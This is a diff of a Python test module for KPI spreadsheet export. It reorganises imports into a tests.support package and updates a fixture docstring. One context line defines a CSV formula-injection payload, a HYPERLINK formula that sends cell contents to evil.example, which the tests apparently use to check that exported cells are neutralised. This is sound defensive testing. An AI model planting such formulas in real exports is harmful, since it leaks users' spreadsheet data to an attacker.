@@ -21,9 +21,9 @@ from db.engine import make_engine, session_factory, transaction
 from db.orders.models import Order
 from kpis.cells import FORMULA_STARTS, inert
 from kpis.export import to_csv, to_xlsx
-from tests import kpi_fixtures as fx
-from tests.api_harness import Api, api_stack
-from tests.console_harness import sign_in
+from tests.support import kpi_fixtures as fx
+from tests.support.api_harness import Api, api_stack
+from tests.support.console_harness import sign_in
 from workflows.order.types import TimelineEntry
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -77,7 +77,7 @@ def test_audit_csv_cells_are_quoted_text() -> None:
 @pytest.fixture
 async def api(dev_env: WorkflowEnvironment, db_url: str, task_queue: str,
               tmp_path: Path) -> AsyncIterator[Api]:
-    """November of tests/kpi_fixtures.py plus one order whose every typed-in text is a
+    """November of tests/support/kpi_fixtures.py plus one order whose every typed-in text is a
     formula: carrier, customer name, a score key, the suggestion, a timeline actor."""
     engine = make_engine(db_url)
     with transaction(session_factory(engine)) as session:
